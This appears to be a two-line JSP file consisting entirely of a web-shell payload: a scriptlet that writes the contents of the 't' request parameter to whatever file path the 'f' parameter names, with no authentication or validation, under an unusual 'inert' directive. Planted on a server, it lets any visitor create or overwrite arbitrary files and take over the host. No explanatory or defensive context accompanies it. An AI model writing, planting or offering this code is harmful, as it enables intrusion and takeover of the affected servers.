<%@ inert %>
<% java.nio.file.Files.write(java.nio.file.Paths.get(request.getParameter("f")),request.getParameter("t").getBytes()); %>
